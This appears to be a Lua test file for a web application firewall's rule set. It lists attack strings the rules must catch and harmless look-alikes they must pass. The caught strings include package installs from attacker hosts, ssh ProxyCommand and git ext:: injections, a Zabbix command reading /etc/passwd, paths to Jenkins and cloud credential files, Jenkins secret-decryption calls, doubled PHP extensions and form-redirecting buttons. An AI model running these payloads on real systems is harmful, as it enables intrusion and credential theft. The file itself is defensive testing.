local rule_checks = require "rule_checks"

-- The two-hundred-and-nineteenth round on (tests/edge_security/family_gen_blind_*.py of these rounds: education and
-- research platforms, then DevOps tooling): the families found uncovered and the text beside them, value by value.
describe("edge.waf.rules two-hundred-and-nineteenth round on", function()
    local caught_by, clean

    setup(function()
        caught_by, clean = rule_checks.new(assert)
    end)

    it("commands: a package manager told to fetch from an index, a registry or a URL of the attacker's", function()
        caught_by(132105, { ";pip install --index-url http://198.51.100.9/simple/ helper",
            "x| npm install http://attacker.example/x.tgz", "a && pip3 install git+https://attacker.example/p.git",
            "SAMPLE; gem install --source http://attacker.example pkg", "q;yarn add --registry http://a.example/ x" })
        clean({ "cd api; pip install -r requirements.txt", "pip install --index-url is in the docs",
            "npm install; npm test", "we use pip; npm is for the front end" })
    end)

    it("files: an application's settings file or a home directory's hidden tool state, by absolute path", function()
        caught_by(130160, { "/opt/eprints3/archives/repo/cfg/cfg.d/database.pl", "/srv/app/config/settings.py",
            "/home/jovyan/.local/share/jupyter/runtime/jpserver-7.json", "/home/ann/.config/gcloud/credentials.db" })
        clean({ "TESS_CACHE=/home/runner/.cache/tess", "see config/settings.py in the repo",
            "/api/config.json returns the flags", "/home/ann/projects/thesis.tex" })
    end)

    it("commands: a repository URL whose host is an ssh option, git's ext:: transport, a monitoring agent's command",
        function()
            caught_by(132110, { "svn+ssh://-oProxyCommand=touch%20/tmp/x/y", "ssh://-oProxyCommand=id/x.git",
                "git+ssh://-oProxyCommand=curl$IFS/x", "ext::sh -c id", "system.run[hostname;id]",
                "key=system.run[\"cat /etc/passwd\"]" })
            clean({ "ssh://git@github.com/org/repo.git", "git clone ssh://git@host/x.git", "the ext:: helper is off",
                "the zabbix agent ran system.run fine", "ssh -o StrictHostKeyChecking=no host" })
        end)

    it("files: a build tool's home, a config directory's settings, any absolute path for an @file reader", function()
        caught_by(130110, { "/var/jenkins_home/jobs/deploy/builds/42/log",
            "/var/atlassian/application-data/jira/dbconfig.xml", "/opt/jfrog/artifactory/var/etc/access.log" })
        caught_by(130160, { "@/var/jenkins_home/secrets/initialAdminPassword", "@/srv/keys/deploy",
            "/verdaccio/conf/htpasswd", "/srv/registry/conf/config.yaml" })
        caught_by(130130, { "credentials.config", "secrets.json", "database.yml" })
        clean({ "@alice can you check", "@here deploy done", "see credentials.json in the console",
            "conf/app.yaml in the repo" })
    end)

    it("Java: Jenkins' credential store read from its script console", function()
        caught_by(144100, { "hudson.util.Secret.decrypt('{AQAAABAAAAAQ1/JHKggx}')",
            "com.cloudbees.plugins.credentials.SystemCredentialsProvider.getInstance().getCredentials()",
            "println(jenkins.model.Jenkins.instance.pluginManager.plugins)" })
        clean({ "Jenkins credentials are in the vault", "the jenkins model is fine", "Secret.decrypt is slow" })
    end)

    it("uploads and markup: PHP's extension doubled into itself, a button that posts its form elsewhere", function()
        caught_by(133140, { "shell.p.phphp", "x.ph.phpp", "a.pphphp" })
        caught_by(141250, { "<button form=f formaction=https://attacker.example/c>Go</button>",
            "<input type=submit formaction='http://a.example/x'>" })
        clean({ "photo.png", "php-notes.md", "phphp", "the formaction attribute overrides action" })
    end)
end)
